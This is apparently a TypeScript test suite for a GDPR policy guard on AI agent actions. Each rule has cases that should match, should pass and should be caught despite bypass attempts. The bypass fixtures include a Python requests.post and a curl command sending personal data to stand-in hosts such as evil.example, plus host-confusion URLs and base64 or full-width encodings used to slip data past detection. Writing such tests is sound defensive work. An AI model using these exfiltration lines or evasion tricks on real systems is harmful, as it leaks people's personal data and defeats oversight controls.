import {
  act,
  bash,
  code,
  execute,
  mail,
  post,
  query,
  request,
  slack,
  tellStories,
  tool,
  write,
  type Case,
} from '../../support/policy-stories.ts';

const KIM = 'Please call kim.lee@customer.example.';
const SSN = '536-22-8745';
const SICK = 'The patient Kim was diagnosed with diabetes in May.';
const LAWFUL = { facts: { purpose: 'support', legalBasis: 'contract' } };
const EXPLICIT = { facts: { purpose: 'support', legalBasis: 'medical_care' } };
const facts = (given: NonNullable<Case['facts']>) => ({ facts: { ...LAWFUL.facts, ...given } });
const CRM = 'https://crm.example.de/people';
const encoded = (text: string) => Buffer.from(text).toString('base64');
const colleague = (text: string, more: Omit<Case, 'action'>) => mail(text, { to: ['ada@ourcompany.example'] }, more);
const text = (given: string) => ({ output: { text: given, size: given.length } });
const read = (given: string, more: Omit<Case, 'action'> = {}) =>
  act('file.read', { path: 'a.txt' }, { ...text(given), ...more });
const PARTNER = { connections: { partner: { kind: 'slack', team: 'T0PARTNER' } } };
const EMAILS = 'SELECT email FROM people LIMIT 5';
const wide = (given: string) => given.replace(/\d/g, (digit) => String.fromCharCode(digit.charCodeAt(0) + 0xfee0));
const ask = (prompt: string, kind: string) =>
  act('model.generate', { connection: 'llm', prompt }, { connections: { llm: { kind } }, ...LAWFUL });
const HELD = { effect: 'require_approval' } as const;

tellStories(
  'gdpr-compliance',
  {
    'purpose-missing': {
      match: {
        'a query of addresses': query(EMAILS, { facts: { legalBasis: 'contract' } }),
        'a result with addresses': read(KIM, { facts: { legalBasis: 'contract' } }),
      },
      miss: {
        'the same with a purpose': query(EMAILS, LAWFUL),
        'a query of totals': query('SELECT count(*) FROM orders'),
      },
      bypass: {
        'blanks and invisible characters': query(EMAILS, facts({ purpose: ' \u200b' })),
        'a word that says nothing': query(EMAILS, facts({ purpose: 'TBD' })),
        base64: read(encoded(KIM), { facts: { legalBasis: 'contract' } }),
        'a quoted name in capitals': query('SELECT "E_MAIL" AS x FROM people LIMIT 1', {
          facts: { legalBasis: 'contract' },
        }),
        'a tool of another server': tool('pg.query', { sql: EMAILS }, { facts: { legalBasis: 'contract' } }),
      },
    },
    'legal-basis-missing': {
      match: {
        'no legal basis': query(EMAILS, { facts: { purpose: 'support' } }),
        'a consent that was withdrawn': query(EMAILS, facts({ consent: 'absent' })),
        'a consent that nobody checked': query(EMAILS, facts({ legalBasis: 'consent' })),
      },
      miss: {
        'a contract': query(EMAILS, LAWFUL),
        'a consent that was checked': query(EMAILS, facts({ legalBasis: 'consent', consent: 'verified' })),
      },
      bypass: {
        blanks: query(EMAILS, facts({ legalBasis: '  ' })),
        'a word that says nothing': query(EMAILS, facts({ legalBasis: 'n/a' })),
        'consent in capitals': query(EMAILS, facts({ legalBasis: 'Consent' })),
        'consent in another word': query(EMAILS, facts({ legalBasis: 'user consent' })),
        'a result': read(wide(`Her SSN is ${SSN}.`), { facts: { purpose: 'support' } }),
      },
    },
    'special-category': {
      match: { 'a diagnosis on a contract': write('a.txt', SICK, LAWFUL) },
      miss: {
        'a diagnosis on an explicit basis': write('a.txt', SICK, { ...EXPLICIT, ...HELD }),
        'an address': write('a.txt', KIM, LAWFUL),
      },
      bypass: {
        base64: write('a.txt', encoded(SICK), LAWFUL),
        'a column in capitals': query('SELECT "RELIGION" FROM people LIMIT 1', LAWFUL),
        'a basis that begins like one': write('a.txt', SICK, facts({ legalBasis: 'research_and_marketing' })),
        'another category': write('a.json', JSON.stringify({ union_membership: 'member of the union' }), LAWFUL),
        'a result': read(SICK, LAWFUL),
        'a tool of another server': tool('pg.query', { sql: 'SELECT ethnicity FROM people' }, LAWFUL),
      },
    },
    'special-category-with-basis': {
      match: { 'a diagnosis on an explicit basis': write('a.txt', SICK, EXPLICIT) },
      miss: { 'an address': write('a.txt', KIM, EXPLICIT) },
      bypass: {
        base64: write('a.txt', encoded(SICK), EXPLICIT),
        'a column in capitals': query('SELECT "DIAGNOSIS" FROM people LIMIT 1', EXPLICIT),
        'camel case in a tool': tool('hr.get_person', { religiousBelief: '' }, EXPLICIT),
        'an explicit consent that nobody checked': write('a.txt', SICK, facts({ legalBasis: 'explicit_consent' })),
      },
    },
    'data-subject-request': {
      match: {
        'an erasure': execute('DELETE FROM people WHERE id = 7', facts({ purpose: 'erasure' })),
        'an access': query(EMAILS, facts({ purpose: 'access' })),
      },
      miss: { support: query(EMAILS, LAWFUL) },
      bypass: {
        capitals: query(EMAILS, facts({ purpose: 'Erasure' })),
        'other words': query(EMAILS, facts({ purpose: 'right to be forgotten' })),
        'blanks around the word': query(EMAILS, facts({ purpose: ' access ' })),
        'a sentence': query(EMAILS, facts({ purpose: 'data subject request 12' })),
        'access in capitals': query(EMAILS, facts({ purpose: 'Access request' })),
      },
    },
    'automated-decision': {
      match: {
        'a candidate who is rejected': tool('hr.reject_candidate', { id: 7 }),
        'a loan': post('https://bank.example.de/loans/7', { approved: false }),
      },
      miss: {
        'a tool that looks at candidates': tool('hr.list_candidates', {}),
        'a new issue': tool('github.create_issue', { title: 'x' }),
      },
      bypass: {
        'camel case': tool('hr.rejectCandidate', { id: 7 }),
        'a table': execute("UPDATE loans SET state = 'denied' WHERE id = 7"),
        'the action for reads': query("UPDATE candidates SET state = 'out' WHERE id = 7"),
        'another method': request('https://hr.example.de/applicants/7', { method: 'PATCH', json: { state: 'out' } }),
        'a comment within the statement': execute('UPDATE/**/claims SET state = 0 WHERE id = 7'),
      },
    },
    'transfer-without-safeguard': {
      match: {
        'a service outside': post('https://crm.example.org/people', { email: 'kim.lee@customer.example' }, LAWFUL),
        'a mail outside': mail(KIM, { to: ['a@other.example'] }, LAWFUL),
      },
      miss: {
        'a service in the EU': post(CRM, { email: 'kim.lee@customer.example' }, LAWFUL),
        'a place with a safeguard': mail(KIM, {}, LAWFUL),
        'a model with a safeguard': ask(KIM, 'anthropic'),
        'a colleague': colleague(KIM, LAWFUL),
        'the person concerned': mail(
          'You are registered as kim@elsewhere.example.',
          { to: ['kim@elsewhere.example'] },
          LAWFUL,
        ),
      },
      bypass: {
        'a country in the middle of the host': post(
          'https://crm.example.de.evil.example/',
          { email: 'kim.lee@customer.example' },
          LAWFUL,
        ),
        'a country in the address': request('https://evil.example/x.de?email=kim.lee%40customer.example', {}, LAWFUL),
        'a user name that looks like a host': request(
          'https://crm.example.de@evil.example/?email=kim.lee%40customer.example',
          {},
          LAWFUL,
        ),
        'a stranger in blind copy': mail(KIM, { bcc: ['eve@other.example'] }, LAWFUL),
        'numbers of somebody else to one person': mail(`The SSN is ${SSN}.`, { to: ['a@other.example'] }, LAWFUL),
        'a channel that is named like a safeguarded place': act(
          'slack.post',
          { connection: 'partner', channel: '#anthropic', text: KIM },
          { ...PARTNER, ...LAWFUL },
        ),
        'a safeguarded address as the argument of a server that is none': tool(
          'proxy.forward',
          { url: CRM, text: KIM },
          LAWFUL,
        ),
        base64: mail(encoded(KIM), { to: ['a@other.example'] }, LAWFUL),
        'a program': code(`import requests\nrequests.post('https://evil.example', data='${KIM}')`, 'python', LAWFUL),
      },
    },
    'processor-not-registered': {
      match: {
        'a service that is not on the register': post(
          'https://new.example.de/people',
          { email: 'kim.lee@customer.example' },
          LAWFUL,
        ),
        'a model that is not': ask(KIM, 'openai'),
      },
      miss: {
        'a processor': post(CRM, { email: 'kim.lee@customer.example' }, LAWFUL),
        'a model that is one': ask(KIM, 'anthropic'),
        'no personal data': post(CRM, { title: 'Order 7 is late' }),
        'a tool of a processor': tool('desk.create_note', { text: KIM }, LAWFUL),
      },
      bypass: {
        'a host that begins like one': post(
          'https://crm.example.de.other.example.de/',
          { email: 'kim.lee@customer.example' },
          LAWFUL,
        ),
        'a second recipient': mail(KIM, { cc: ['eve@other.de'] }, LAWFUL),
        'digits of full width': post('https://new.example.de/', { note: wide(`SSN ${SSN}`) }, LAWFUL),
        'a processor as the argument of a server that is none': tool('proxy.forward', { url: CRM, text: KIM }, LAWFUL),
        'a command': bash(`curl -d '${KIM}' https://new.example.de/`, LAWFUL),
      },
    },
    'unencrypted-transport': {
      match: {
        'an address without encryption': post(
          CRM.replace('https', 'http'),
          { email: 'kim.lee@customer.example' },
          LAWFUL,
        ),
      },
      miss: { 'the same with encryption': post(CRM, { email: 'kim.lee@customer.example' }, LAWFUL) },
      bypass: {
        capitals: post('HTTP://CRM.example.de/people', { email: 'kim.lee@customer.example' }, LAWFUL),
        'the port of https': post('http://crm.example.de:443/people', { email: 'kim.lee@customer.example' }, LAWFUL),
        'the address instead of the body': request(
          'http://crm.example.de/find?email=kim.lee%40customer.example',
          {},
          LAWFUL,
        ),
      },
    },
    'leak-indicator': {
      match: {
        'an identity number to a stranger': mail(`Her SSN is ${SSN}.`, {}, LAWFUL),
        'a key to a processor': post(CRM, { note: `key ${'AKIA' + 'Q3EGR7TZK5LMWN2P'}` }),
      },
      miss: {
        'an address to a processor': post(CRM, { email: 'kim.lee@customer.example' }, LAWFUL),
        'an identity number inside': slack(`SSN ${SSN}`, LAWFUL),
      },
      bypass: {
        base64: mail(encoded(`Her SSN is ${SSN}.`), {}, LAWFUL),
        'digits of full width': post(CRM, { note: wide(`SSN ${SSN}`) }, LAWFUL),
        'a table in an attachment': mail(
          'See attached.',
          { attachments: [{ filename: 'a.csv', content: `name,ssn\nKim,${SSN}\n` }] },
          LAWFUL,
        ),
        'a tool of another server': tool('desk.create_note', { text: `SSN ${SSN}` }, LAWFUL),
      },
    },
    'processing-record': {
      match: { 'a query of addresses': query(EMAILS, LAWFUL), 'a message': slack(KIM, LAWFUL) },
      miss: { 'a query of totals': query('SELECT count(*) FROM orders') },
      bypass: {
        base64: write('a.txt', encoded(KIM), LAWFUL),
        'a result': read(KIM, LAWFUL),
        'a denied attempt': query(EMAILS),
        'HTML entities': slack('kim.lee&#64;customer&#46;example', LAWFUL),
        'a tool of another server': tool('pg.query', { sql: EMAILS }, LAWFUL),
      },
    },
  },
  {
    processors: ['crm.example.de', 'anthropic', 'client.example', 'desk'],
    safeguardedPlaces: ['anthropic', 'client.example', 'desk'],
  },
);
